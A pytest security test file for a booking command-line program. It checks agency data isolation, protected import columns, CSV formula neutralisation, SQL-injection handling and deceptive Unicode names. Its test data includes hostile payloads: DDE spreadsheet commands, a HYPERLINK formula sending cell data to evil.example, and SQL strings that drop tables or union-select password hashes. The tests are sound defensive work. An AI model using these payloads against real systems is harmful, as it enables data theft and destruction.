"""Attacks from a shell: another agency's things, smuggled columns, formulas, SQL, strange texts.

Each is one line of a table, with what the attacker wants and what must come of it.
"""

import csv
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from astrobookings_desktop.domain.statuses import Role
from tests.attacks.conftest import person
from tests.helpers.command_line import CommandLine
from tests.rights.town import EMAIL, PASSWORD, Town

# --- another agency's rows, by every filter -------------------------------------------------------

CURIOUS = {
    "the booking's id": ("booking", "--where", "id={sale}"),
    "the booking's locator": ("booking", "--where", "locator={locator}"),
    "the locator as a search": ("booking", "--search", "{locator}"),
    "the traveler's name": ("booking", "--search", "Ann {name}"),
    "the launch's id": ("booking", "--where", "launch_id={launch}"),
    "the traveler's id": ("booking", "--where", "traveler_id={traveler}"),
    "one's own or the other's": ("booking", "--where", "id={sale} and number_of_seats>0"),
    "the other agency itself": ("agency", "--where", "id={agency}"),
    "its name": ("agency", "--search", "{name}"),
    "all rockets of the other": ("rocket", "--where", "agency_id={agency}"),
    "its rocket by name": ("rocket", "--search", "{name} rocket"),
    "its launches": ("launch", "--where", "agency_id={agency}"),
    "open launches of anybody": ("launch", "--where", "open"),
    "its invoice's number": ("invoice", "--search", "2026-{agency:04}"),
    "its invoices by agency": ("invoice", "--where", "agency_id={agency}"),
    "payments of its invoice": ("payment", "--where", "invoice_id={invoice}"),
    "its messages": ("notification", "--where", "user_id={agency}"),
    "all of it, sorted otherwise": ("booking", "--sort", "-id"),
    "all of it, very many": ("launch", "--limit", "1000000"),
}


@pytest.mark.parametrize("words", CURIOUS.values(), ids=CURIOUS)
def test_no_filter_shows_another_agencys_rows(town: Town, words: tuple[str, ...]) -> None:
    other = town.other
    said = [word.format(**vars(other)) for word in words]
    line = person(town, Role.AGENCY)
    done = line.run("--json", "list", *said)
    if done.exit_code:  # the filter itself isn't one
        assert json.loads(done.stdout)["error"] == "invalid_value", done.stdout
    for theirs in (f"Ann {other.name}", f"{other.name} rocket", other.locator):
        asked = any(theirs in word for word in said)
        assert asked or theirs not in done.output
    rows = json.loads(done.stdout) if done.exit_code == 0 else []
    strange = {other.sale, other.hold, other.launch, other.rocket, other.invoice, other.payment}
    assert not strange & {row.get("id") for row in rows}


LENT = {
    "a rocket given to the other": (
        "edit",
        "rocket",
        "{own.spare_rocket}",
        "--agency-id",
        "{other.agency}",
    ),
    "a launch put on the other's rocket": (
        "edit",
        "launch",
        "{own.launch}",
        "--rocket-id",
        "{other.rocket}",
    ),
    "the other's rocket taken": ("edit", "rocket", "{other.rocket}", "--agency-id", "{own.agency}"),
    "the other's profile": ("edit", "agency", "{other.agency}", "--tax-id", "B12345674"),
    "the other switched off": ("edit", "agency", "{other.agency}", "--active", "no"),
    "oneself switched on": ("edit", "agency", "{own.agency}", "--active", "yes"),
    "the other's launch made cheap": ("edit", "launch", "{other.launch}", "--price-per-seat", "1"),
}


@pytest.mark.parametrize("words", LENT.values(), ids=LENT)
def test_no_agency_reaches_into_another(town: Town, words: tuple[str, ...]) -> None:
    before = _dump(town.company.path)
    said = [word.format(own=town.own, other=town.other) for word in words]
    refusal = person(town, Role.AGENCY).refusal(*said)
    assert refusal["error"] in {"wrong_agency", "not_found", "missing_right"}
    assert _dump(town.company.path) == before


# --- columns that aren't entered by hand ----------------------------------------------------------

SMUGGLED = ["id", "user_id", "role", "password_hash", "active", "email_key", "created_at"]


@pytest.mark.parametrize("column", SMUGGLED)
@pytest.mark.parametrize("option", ["--map", "--set"])
def test_an_import_sets_no_column_of_the_program(
    town: Town, tmp_path: Path, column: str, option: str
) -> None:
    file = tmp_path / "people.csv"
    file.write_text(f"name,{column}\nMallory,admin\n", "utf-8")
    before = _dump(town.company.path)
    refusal = person(town, Role.AGENT).refusal(
        "import", "traveler", file, option, f"{column}={column}"
    )
    assert refusal["error"] == "invalid_value"
    assert _dump(town.company.path) == before


@pytest.mark.parametrize("column", SMUGGLED)
def test_a_column_of_the_programs_name_in_the_file_is_left_alone(
    town: Town, tmp_path: Path, column: str
) -> None:
    file = tmp_path / "people.csv"
    file.write_text(f"name,{column}\nMallory,1\n", "utf-8")
    report = person(town, Role.AGENT).get("import", "traveler", file)
    assert report["unused"] == [column]
    with closing(sqlite3.connect(town.company.path)) as look:
        found = look.execute("SELECT role, password_hash FROM user WHERE name = 'Mallory'")
        assert found.fetchall() == [("traveler", None)]


# --- formulas -------------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "＝1+1",
    '=1+1"; "=2',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(town: Town, tmp_path: Path, text: str) -> None:
    line = person(town, Role.AGENT)
    line.get("create", "traveler", "--name", text)
    file = tmp_path / "out.csv"
    line.get("export", "traveler", file)
    with file.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=@＝" or cell[:2] in ("+1", "-2") if cell]
    assert f"'{text}" in cells
    town.company.path.unlink()
    again = person(town, Role.AGENT)  # and back as it was typed
    again.environment.clear()
    again.run("init")
    again.get("import", "traveler", file)
    assert text in [row["name"] for row in again.get("list", "traveler")]


# --- SQL ------------------------------------------------------------------------------------------

POISON = "x'; DROP TABLE booking; --"
FIELDS = {
    "traveler's name": ("create", "traveler", "--name", POISON),
    "traveler's emergency contact": (
        *("create", "traveler", "--name", "A", "--emergency-contact", POISON),
    ),
    "traveler's wishes": (
        *("create", "traveler", "--name", "A", "--travel-preferences", json.dumps({"a": POISON})),
    ),
    "agency's name": ("create", "agency", "--name", POISON),
    "agency's description": ("create", "agency", "--name", "A", "--description", POISON),
    "agency's contact": ("create", "agency", "--name", "A", "--contact-info", POISON),
    "agency's legal name": ("create", "agency", "--name", "A", "--legal-name", POISON),
    "agency's tax id": ("create", "agency", "--name", "A", "--tax-id", POISON),
    "agency's address": ("create", "agency", "--name", "A", "--legal-address", POISON),
    "user's name": (
        *("create", "user", "--name", POISON, "--email", "a@example.org", "--role", "agent"),
    ),
    "rocket's name": ("edit", "rocket", "{own.rocket}", "--name", POISON),
    "launch's destination": (
        *("edit", "launch", "{own.launch}", "--destination", POISON, "--range", "moon"),
    ),
    "reason of a void": ("void-sale", "{own.sale}", "--reason", POISON),
    "request id": (
        *("sell", "--launch", "{own.launch}", "--traveler", "{own.traveler}"),
        *("--seats", "1", "--request-id", POISON),
    ),
    "company's name": ("settings", "set", "company_name", POISON),
}


@pytest.mark.parametrize("words", FIELDS.values(), ids=FIELDS)
def test_sql_in_a_text_is_a_text(town: Town, words: tuple[str, ...]) -> None:
    said = [word if POISON in word else word.format(own=town.own) for word in words]
    admin = person(town, Role.ADMIN)
    before = _findings(admin)
    done = admin.run(*said)
    assert done.exit_code == 0, done.stderr
    assert _findings(admin) == before
    kept = _dump(town.company.path, told=frozenset())
    assert POISON in json.dumps(kept, ensure_ascii=False).replace("\\", "")


ASKED = {
    "a condition that is always true": ("--where", "name='x' or 1=1"),
    "a second statement": ("--where", "id=1; DELETE FROM booking"),
    "a comment": ("--where", "id=1 --"),
    "a subquery": ("--where", "id=(SELECT min(id) FROM user)"),
    "a union": ("--where", "id=1 UNION SELECT password_hash FROM user"),
    "a hidden column": ("--where", "password_hash=x"),
    "a sort expression": ("--sort", "id; DROP TABLE booking"),
    "a sort by a hidden column": ("--sort", "password_hash"),
    "a sort by a subquery": ("--sort", "(SELECT password_hash FROM user)"),
}


@pytest.mark.parametrize("words", ASKED.values(), ids=ASKED)
def test_sql_in_a_filter_is_refused_or_a_text(town: Town, words: tuple[str, ...]) -> None:
    before = _dump(town.company.path)
    told = person(town, Role.ADMIN).run("--json", "list", "booking", *words)
    document = json.loads(told.stdout)
    assert document == [] or document["error"] == "invalid_value"
    assert "argon2" not in told.output
    assert _dump(town.company.path) == before


@pytest.mark.parametrize("text", ["%", "_", "\\", "'", "%' OR '1'='1", "*", '"NEAR("', "\x00"])
def test_a_search_takes_signs_for_signs(town: Town, text: str) -> None:
    assert person(town, Role.ADMIN).get("list", "traveler", "--search", f"zz{text}") == []


@pytest.mark.parametrize("text", ['"', "NEAR(", ")", "(("])
def test_a_search_that_ends_in_the_middle_is_pointed_at(town: Town, text: str) -> None:
    told = person(town, Role.ADMIN).refusal("list", "traveler", "--search", f"zz{text}")
    assert told["error"] == "invalid_value"


# --- texts that are not what they seem ------------------------------------------------------------

STRANGE = {
    "right-to-left override": "Ada \u202egnp.exe",
    "isolate": "Ada \u2066x",
    "line break": "Ada\nBcc: everybody@example.org",
    "carriage return": "Ada\rLovelace",
    "escape sequence": "Ada \x1b[2J",
    "bell": "Ada\x07",
    "nothing visible": "\u200b\u200b",
    "spaces": "\u00a0 \u3000",
    "201 letters": "a" * 201,
    "a lone surrogate": "Ada \udcff",
}


@pytest.mark.parametrize("name", STRANGE.values(), ids=STRANGE)
def test_a_name_that_deceives_is_refused(town: Town, name: str) -> None:
    refusal = person(town, Role.AGENT).refusal("create", "traveler", "--name", name)
    assert (refusal["error"], refusal["field"]) == ("invalid_value", "name")
    assert "\x1b" not in refusal["message"]


HUGE = {
    "seats of many digits": ("sell", "--seats", "9" * 5000),
    "seats in another script": ("sell", "--seats", "٣x"),
    "a price of many digits": ("price", "--price", "9" * 5000),
    "a price with an exponent": ("price", "--price", "1e400"),
    "no number": ("price", "--price", "NaN"),
    "a deep document": ("wishes", "--travel-preferences", "[" * 10_000 + "]" * 10_000),
    "a document of many numbers": ("wishes", "--travel-preferences", '{"a": 1e999}'),
    "a long document": ("wishes", "--travel-preferences", json.dumps({"a": "b" * 50_000})),
}


@pytest.mark.parametrize("words", HUGE.values(), ids=HUGE)
def test_what_is_too_much_is_refused_at_once(town: Town, words: tuple[str, ...]) -> None:
    kind, option, value = words
    place = {
        "sell": ("sell", "--launch", town.own.launch, "--traveler", town.own.traveler),
        "price": (
            *("launch", "schedule", "--rocket", town.own.rocket, "--destination", "Moon"),
            *("--date", "2030-01-01T00:00Z"),
        ),
        "wishes": ("create", "traveler", "--name", "Ada"),
    }[kind]
    refusal = person(town, Role.ADMIN).refusal(*place, option, value)
    assert refusal["error"] == "invalid_value"
    assert len(refusal["message"]) < 400


# --- somebody else's word -------------------------------------------------------------------------


def test_a_stolen_request_id_tells_no_other_booking(town: Town) -> None:
    agent, admin = person(town, Role.AGENT), person(town, Role.ADMIN)
    mine = ("--launch", town.own.launch, "--traveler", town.own.traveler, "--seats", 1)
    first = agent.get("sell", *mine, "--request-id", "mine")
    other = ("--launch", town.other.launch, "--traveler", town.other.traveler, "--seats", 2)
    refusal = admin.refusal("sell", *other, "--request-id", "mine")
    assert first["locator"] not in str(refusal)


OVERRIDES = {
    "an agent's": (EMAIL.format("agent"), PASSWORD, "missing_right"),
    "an agency's": (EMAIL.format("ownline"), PASSWORD, "missing_right"),
    "a stranger's": ("eve@example.org", PASSWORD, "sign_in_refused"),
    "a manager's with a wrong password": (EMAIL.format("manager"), "guess", "sign_in_refused"),
}


@pytest.mark.parametrize(("email", "password", "error"), OVERRIDES.values(), ids=OVERRIDES)
def test_only_a_managers_word_overrides(town: Town, email: str, password: str, error: str) -> None:
    line = person(town, Role.AGENT)
    line.environment["ASTROBOOKINGS_OVERRIDE_PASSWORD"] = password
    for words in (
        ("sell", "--launch", town.own.launch, "--traveler", town.newcomer, "--seats", 6),
        ("move", town.own.locator, "--launch", town.own.later_launch),
        ("transfer", town.own.locator, "--traveler", town.newcomer),
    ):
        refusal = line.refusal(*words, "--override", "--allowed-by", email, "--reason", "a family")
        assert refusal["error"] == error


def test_a_manager_who_lost_the_right_overrides_nothing(town: Town) -> None:
    admin = person(town, Role.ADMIN)
    manager = admin.get("list", "user", "--where", f"email={EMAIL.format('manager')}")[0]["id"]
    admin.get("edit", "user", manager, "--role", "agent")
    line = person(town, Role.AGENT)
    line.environment["ASTROBOOKINGS_OVERRIDE_PASSWORD"] = PASSWORD
    refusal = line.refusal(
        *("sell", "--launch", town.own.launch, "--traveler", town.newcomer, "--seats", 6),
        *("--override", "--allowed-by", EMAIL.format("manager"), "--reason", "a family"),
    )
    assert refusal["error"] == "missing_right"


def _findings(line: CommandLine) -> object:
    return json.loads(line.run("--json", "check").stdout)["findings"]


TELLING = frozenset({"entry_log", "sync_state", "sign_in_failure"})


def _dump(path: Path, told: frozenset[str] = TELLING) -> dict[str, list[tuple[object, ...]]]:
    """All rows but of the tables that are `told` of the attack."""
    with closing(sqlite3.connect(path)) as look:
        names = [
            row[0] for row in look.execute("SELECT name FROM sqlite_schema WHERE type='table'")
        ]
        return {
            name: look.execute(f'SELECT * FROM "{name}" ORDER BY 1').fetchall()
            for name in names
            if name not in told and not name.startswith("search_")  # pieces of the others' texts
        }


def test_another_agencys_invoice_is_told_like_one_that_is_none(town: Town) -> None:
    line = person(town, Role.AGENCY)
    number = person(town, Role.ADMIN).get("show", "invoice", town.other.invoice)["number"]
    theirs = line.refusal("show", "invoice", number)
    nobodys = line.refusal("show", "invoice", "INV-1999-000001")
    assert theirs["message"].replace(number, "N") == nobodys["message"].replace(
        "INV-1999-000001", "N"
    )
    assert str(town.other.invoice) not in str(theirs)


def test_a_managers_missing_word_is_told_as_that(town: Town) -> None:
    line = person(town, Role.AGENT)
    told = line.refusal(
        *("sell", "--launch", town.own.launch, "--traveler", town.newcomer, "--seats", 5),
        *("--override", "--allowed-by", "mara@example.org", "--reason", "a family"),
    )
    assert (told["error"], told["email"]) == ("word_missing", "mara@example.org")
    assert "ASTROBOOKINGS_OVERRIDE_PASSWORD" in told["message"]


def test_a_ticket_is_a_pdf_and_says_so(town: Town, tmp_path: Path) -> None:
    line = person(town, Role.AGENT)
    told = line.refusal("ticket", town.own.locator, tmp_path / "ticket.txt")
    assert "end in .pdf" in told["message"]
    assert list(tmp_path.glob("ticket*")) == []
